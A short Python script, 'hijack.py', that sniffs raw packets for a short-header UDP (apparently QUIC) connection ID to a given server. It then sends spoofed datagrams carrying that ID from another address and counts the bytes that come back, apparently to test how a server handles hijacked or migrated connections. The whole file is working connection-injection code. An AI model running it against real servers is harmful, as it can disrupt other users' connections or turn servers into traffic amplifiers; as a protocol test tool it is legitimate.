#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""hijack: garbage that carries the connection ID of somebody else's packets.

    hijack.py INTERFACE HOST PORT FROM COUNT

Waits for a short header to HOST:PORT on the interface, and sends COUNT
datagrams that begin like it from the address FROM, one each 10 ms. Prints how
many bytes came back, until a second after the last.
"""
import os
import socket
import sys
import time

ETH_P_ALL = 3
DCID_MAX = 20
HEADERS = {socket.AF_INET: (14 + 12, 4, 14 + 20), socket.AF_INET6: (14 + 8, 16, 14 + 40)}  # source, its length, UDP


def seen_packet(interface, host, port, family):
    """The first bytes of the UDP payload: flags and DCID, whatever its length."""
    source, size, udp = HEADERS[family]
    target = socket.inet_pton(family, host)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as tap:
        tap.bind((interface, 0))
        tap.settimeout(10)
        while True:
            frame = tap.recv(65535)
            payload = frame[udp + 8:]
            if (frame[source + size:udp] == target and frame[udp + 2:udp + 4] == port.to_bytes(2, "big") and
                    len(payload) > 1 + DCID_MAX and not payload[0] & 0x80):
                return payload[:1 + DCID_MAX]


def main(arguments):
    if len(arguments) != 5:
        sys.exit(__doc__)
    interface, host, port, address, count = arguments[0], arguments[1], int(arguments[2]), arguments[3], int(arguments[4])
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    head = seen_packet(interface, host, port, family)
    received = 0
    with socket.socket(family, socket.SOCK_DGRAM) as attacker:
        attacker.bind((address, 0))
        attacker.setblocking(False)
        end = time.monotonic() + count / 100 + 1
        while time.monotonic() < end:
            if count > 0:
                attacker.sendto(head + os.urandom(60), (host, port))
                count -= 1
            time.sleep(0.01)
            try:
                while True:
                    received += len(attacker.recv(65535))
            except BlockingIOError:
                pass
    print(received)


if __name__ == "__main__":
    main(sys.argv[1:])
